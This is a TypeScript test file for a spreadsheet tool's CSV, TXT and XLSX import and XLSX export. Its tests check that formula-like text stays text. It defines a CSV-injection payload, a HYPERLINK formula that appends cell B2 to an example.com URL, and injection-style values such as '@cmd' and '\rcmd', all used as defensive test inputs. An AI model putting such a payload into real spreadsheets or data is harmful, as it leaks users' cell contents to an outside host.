/** Opening CSV, text and XLSX files as sheets, and saving the workbook as XLSX (ExcelJS), without a browser. */
import ExcelJS from 'exceljs';
import { afterEach, describe, expect, it } from 'vitest';
import type { SheetInput } from '../playground/engine/sheet-model.js';
import { Workbook } from '../playground/engine/workbook.js';
import { excelFormula, workbookToXlsx } from '../playground/io/export.js';
import { csvToSheet, fileToSheets, ImportError, sheetNameOf, xlsxToSheets } from '../playground/io/import.js';
import { detectSeparator } from '../playground/io/separator.js';
import { describeImport, importedMessage, importFailure } from '../playground/ui/import-messages.js';

const open: Workbook[] = [];
afterEach(() => open.splice(0).forEach((w) => w.destroy()));

/** The sheet opened in a workbook: what each cell holds, and whether it is a formula. */
function opened(sheet: SheetInput): { values: unknown[][]; formulas: boolean[][] } {
  const workbook = Workbook.open([sheet]);
  open.push(workbook);
  const id = workbook.sheetId(sheet.name);
  const { rows, cols } = workbook.dimensions(id);
  const values: unknown[][] = [];
  const formulas: boolean[][] = [];
  for (let r = 0; r < rows; r++) {
    values.push([]);
    formulas.push([]);
    for (let c = 0; c < cols; c++) {
      values[r]?.push(workbook.value(id, r, c));
      formulas[r]?.push(workbook.hf.doesCellHaveFormula({ sheet: id, row: r, col: c }));
    }
  }
  return { values, formulas };
}

const INJECTION = '=HYPERLINK("http://example.com/?"&B2, "Click me")';

describe('import: what the file holds', () => {
  it('reads numbers and dates column by column, as the formulas read an argument', () => {
    const { sheet } = csvToSheet(
      [
        'Ngày;Số tiền;Ngày Mỹ;Mơ hồ;Mã',
        '22/09/2026 09:46:16;350.000;12/1/2010 8:26;01/02/2026;20250102',
        '05/10/2026;1.250.000;12/13/2010;03/04/2026;20250103',
      ].join('\n'),
      'ke-toan.csv',
    );
    expect(sheet.cells.slice(1)).toEqual([
      ['2026-09-22 09:46:16', 350_000, '2010-12-01 08:26:00', "'01/02/2026", 20_250_102],
      ['2026-10-05', 1_250_000, '2010-12-13', "'03/04/2026", 20_250_103],
    ]);
    // "350.000" alone says nothing about its separator: it stays text, and the formulas say why.
    expect(csvToSheet('Số tiền\n350.000\n', 'x.csv').sheet.cells[1]).toEqual(["'350.000"]);
  });

  it('reads a CSV as a sheet with headers, detecting the delimiter', () => {
    const { sheet, summary } = csvToSheet(
      '\uFEFFKhách hàng;Doanh thu\r\nAn Phát;"1.234.567 ₫"\r\nBình Minh;24000000\r\n',
      'c:\\data\\khách.csv',
    );
    expect(sheet.name).toBe('khách');
    expect(sheet.headerRow).toBe(true);
    expect(sheet.cells).toEqual([
      ['Khách hàng', 'Doanh thu'],
      ['An Phát', 1_234_567],
      ['Bình Minh', 24_000_000],
    ]);
    expect(sheet.columns?.length).toBe(2);
    expect(summary).toMatchObject({ format: 'semicolon', columns: 2, rows: 2, headerRow: true, idColumns: [] });
    expect(sheetNameOf('orders.2024.csv')).toBe('orders.2024');
  });

  it('stores text a spreadsheet would take for a formula as text; signed numbers stay numbers', () => {
    const csv = [
      'Name,Link,Note,Amount',
      `Ann,"${INJECTION.replace(/"/g, '""')}",+1+1,-12.5`,
      'Bo,@SUM(1+1),-2+3,+7',
      'Chi,"\tx","\rcmd",-4%',
      "Dan,'quoted,=1+1,12",
    ].join('\n');
    const { sheet } = csvToSheet(csv, 'people.csv');
    const { values, formulas } = opened(sheet);
    expect(values.slice(1)).toEqual([
      ['Ann', INJECTION, '+1+1', -12.5],
      ['Bo', '@SUM(1+1)', '-2+3', 7],
      ['Chi', '\tx', '\rcmd', -0.04],
      ['Dan', "'quoted", '=1+1', 12],
    ]);
    expect(formulas.flat().some(Boolean)).toBe(false);
  });

  it('keeps ID-like columns with leading zeros as text, every value of them', () => {
    const csv = 'Mã KH,Điện thoại,Doanh thu\n00001,0912345678,100\n00002,0987654321,200\n12345,0901000000,0050\n';
    const { sheet, summary } = csvToSheet(csv, 'ids.csv');
    expect(summary.idColumns).toEqual(['Mã KH', 'Điện thoại', 'Doanh thu']);
    expect(opened(sheet).values.slice(1)).toEqual([
      ['00001', '0912345678', '100'],
      ['00002', '0987654321', '200'],
      ['12345', '0901000000', '0050'],
    ]);
    const plain = csvToSheet('Mã KH,Doanh thu\n00001,100\n00002,200\n', 'ids.csv');
    expect(plain.summary.idColumns).toEqual(['Mã KH']);
    expect(opened(plain.sheet).values.slice(1)).toEqual([
      ['00001', 100],
      ['00002', 200],
    ]);
  });

  it('detects commas, semicolons (decimal commas inside), tabs and runs of spaces', () => {
    expect(detectSeparator('a,b,c\n1,2,3\n4,5,6')).toBe('comma');
    expect(detectSeparator('Tên;Giá;Số lượng\nAn;1,5;2\nBình;2,25;3\n')).toBe('semicolon');
    expect(detectSeparator('a\tb\n1\t2\n3\t4')).toBe('tab');
    expect(detectSeparator('id   date        amount\n1    2024-01-02  10.5\n2    2024-01-03  7\n')).toBe('spaces');
    expect(detectSeparator('"Công ty, An Phát",1\n"Công ty, Bình Minh",2')).toBe('comma');
    // Names of three words each are one column: no column of numbers says it is a table.
    expect(detectSeparator('Nguyễn Văn An\nTrần Thị Bình\nLê Văn Cường\n')).toBeUndefined();
  });

  it('opens a whitespace-separated .txt as columns, quoted values kept whole', () => {
    const txt = [
      'CustomerID  InvoiceDate   Amount  City',
      '00017       2024-01-02    10.5    "Hà Nội"',
      '00042       2024-01-03    7       "Hồ Chí Minh"',
      '00108       2024-02-11    120     Huế',
    ].join('\n');
    const { sheet, summary } = csvToSheet(txt, 'orders.txt');
    expect(summary).toMatchObject({ format: 'spaces', columns: 4, rows: 3, idColumns: ['CustomerID'] });
    const { values } = opened(sheet);
    expect(values[0]).toEqual(['CustomerID', 'InvoiceDate', 'Amount', 'City']);
    expect(values[2]).toEqual(['00042', expect.any(Number), 7, 'Hồ Chí Minh']);
    expect(describeImport(summary, 'en')).toBe(
      'Separated by spaces, 4 columns, 3 rows, kept as text for their leading zeros: CustomerID',
    );
  });

  it('says what a one-column file holds, and why an empty one cannot be opened, in English and Vietnamese', async () => {
    const single = csvToSheet('Khách hàng\nNguyễn Văn An\nTrần Thị Bình\n', 'names.csv');
    expect(single.summary).toMatchObject({ format: 'single', columns: 1, firstValue: 'Khách hàng' });
    const en = importedMessage('names.csv', [{ name: 'names', summary: single.summary }], 'en');
    expect(en.intent).toBe('warning');
    expect(en.title).toBe('names.csv opened as one column');
    expect(en.body).toContain('No comma, semicolon, tab or run of spaces');
    expect(en.body).toContain('3 rows');
    expect(en.body).toContain('“Khách hàng”');
    const vi = importedMessage('names.csv', [{ name: 'names', summary: single.summary }], 'vi');
    expect(vi.title).toBe('names.csv được mở thành một cột');
    expect(vi.body).toContain('3 dòng');

    for (const text of ['', '\uFEFF', '\n\r\n  \n']) {
      expect(() => csvToSheet(text, 'empty.csv')).toThrow(ImportError);
    }
    const error = await fileToSheets({
      name: 'empty.csv',
      text: async () => '',
      arrayBuffer: async () => new ArrayBuffer(0),
    }).catch((e: unknown) => e);
    expect(importFailure(error, 'en')).toBe('empty.csv is empty: it holds no rows to open.');
    expect(importFailure(error, 'vi')).toBe('empty.csv trống: không có dòng nào để mở.');
    const xls = await fileToSheets({
      name: 'old.xls',
      text: async () => '',
      arrayBuffer: async () => new ArrayBuffer(0),
    })
      .then(() => undefined)
      .catch((e: unknown) => e);
    expect(importFailure(xls, 'vi')).toContain('tệp .xls cũ');
    const broken = await xlsxToSheets(new TextEncoder().encode('not a zip').buffer, 'broken.xlsx').catch(
      (e: unknown) => e,
    );
    expect(broken).toBeInstanceOf(ImportError);
    expect(importFailure(broken, 'en')).toMatch(/^broken\.xlsx could not be read as an XLSX workbook/);
  });

  it('tells what it found, with numbers as each language writes them', () => {
    const summary = { format: 'semicolon', columns: 12, rows: 4906, headerRow: true, idColumns: [] } as const;
    expect(describeImport(summary, 'en')).toBe('Semicolon-separated, 12 columns, 4,906 rows');
    expect(describeImport(summary, 'vi')).toBe('Phân tách bằng dấu chấm phẩy, 12 cột, 4.906 dòng');
    expect(importedMessage('orders.csv', [{ name: 'orders', summary }], 'en')).toEqual({
      title: 'Imported orders.csv',
      body: 'Semicolon-separated, 12 columns, 4,906 rows',
      intent: 'success',
    });
  });

  it('reads every worksheet of an XLSX file: formulas as their values, dates as dates, text as text', async () => {
    const book = new ExcelJS.Workbook();
    const ws = book.addWorksheet('Data');
    ws.addRow(['Customer', 'Revenue', 'Last purchase', 'Code', 'Note']);
    ws.addRow(['Ann', 120, new Date(Date.UTC(2024, 5, 30)), '00123', INJECTION]);
    ws.addRow(['Bo', { formula: 'B2/2', result: 60 }, null, '2024-01-01', { formula: 'A2&"x"', result: '=Annx' }]);
    ws.addRow(['TRUE', 7, null, '-5', '+1']);
    book.addWorksheet('Empty');
    const buffer = await book.xlsx.writeBuffer();
    const sheets = await xlsxToSheets(buffer as ArrayBuffer, 'book.xlsx');
    expect(sheets.map((s) => s.sheet.name)).toEqual(['book Data']);
    expect(sheets[0]?.summary).toMatchObject({ format: 'xlsx', columns: 5, rows: 3, headerRow: true });
    const { values, formulas } = opened(sheets[0]!.sheet);
    expect(values).toEqual([
      ['Customer', 'Revenue', 'Last purchase', 'Code', 'Note'],
      ['Ann', 120, expect.any(Number), '00123', INJECTION],
      ['Bo', 60, null, '2024-01-01', '=Annx'],
      ['TRUE', 7, null, '-5', '+1'],
    ]);
    expect(formulas.flat().some(Boolean)).toBe(false);
  });
});

describe('export', () => {
  it('writes values, formats and formulas, with SegmentKit formulas as notes in their Excel spelling', async () => {
    const workbook = Workbook.open([
      {
        name: 'Customers',
        headerRow: true,
        columns: [undefined, { format: 'vnd' }],
        cells: [
          ['Customer', 'Revenue', 'ABC', 'Total', 'Since'],
          ['Ann', 27000, '=ABC_CLASS(B2:B4)', '=SUM(B2:B4)', '2024-06-30'],
          ['Bo', 16000],
          ['Chi', "'x"],
        ],
      },
    ]);
    open.push(workbook);
    const data = await workbookToXlsx(workbook);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(data);
    const ws = book.getWorksheet('Customers');
    expect(ws?.getCell('C2').value).toBe('A');
    expect(ws?.getCell('C3').value).toBe('C');
    expect(String(ws?.getCell('C2').note)).toContain('In Excel with SegmentKit: =SEG.ABC_CLASS(B2:B4)');
    expect(ws?.getCell('C4').value).toEqual({ error: '#VALUE!' });
    expect(String(ws?.getCell('C4').note)).toContain('"x" is not a number');
    expect(ws?.getCell('D2').value).toEqual({ formula: 'SUM(B2:B4)', result: 43000 });
    expect(ws?.getCell('B2').numFmt).toBe('#,##0 "₫"');
    expect(ws?.getCell('E2').numFmt).toBe('yyyy-mm-dd');
    expect(ws?.getCell('A1').font?.bold).toBe(true);
    const back = await xlsxToSheets(data, 'export.xlsx');
    const { values } = opened({ ...back[0]!.sheet, name: 'back' });
    expect(values[1]?.slice(0, 4)).toEqual(['Ann', 27000, 'A', 43000]);
    expect(values[3]?.slice(0, 3)).toEqual(['Chi', 'x', expect.objectContaining({ value: '#VALUE!' })]);
  });

  it('never makes a formula of imported text: CSV text out as XLSX text, typed formulas as formulas', async () => {
    const csv = `Id,Link,Amount\n00123,"${INJECTION.replace(/"/g, '""')}",5\n00124,@cmd,6\n`;
    const { sheet } = csvToSheet(csv, 'links.csv');
    const workbook = Workbook.open([sheet]);
    open.push(workbook);
    workbook.setInput(workbook.sheetId('links'), 1, 3, '=C2*2');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(await workbookToXlsx(workbook));
    const ws = book.getWorksheet('links');
    expect(ws?.getCell('A2').value).toBe('00123');
    expect(ws?.getCell('B2').value).toBe(INJECTION);
    expect(ws?.getCell('B2').type).toBe(ExcelJS.ValueType.String);
    expect(ws?.getCell('B3').value).toBe('@cmd');
    expect(ws?.getCell('C2').value).toBe(5);
    expect(ws?.getCell('D2').value).toEqual({ formula: 'C2*2', result: 10 });
  });

  it('spells catalog functions with the SEG. prefix and leaves the rest alone', () => {
    expect(excelFormula('=IF(A1>0, abc_class(B2:B9), SUM(C1:C3))')).toBe('=IF(A1>0, SEG.ABC_CLASS(B2:B9), SUM(C1:C3))');
  });
});
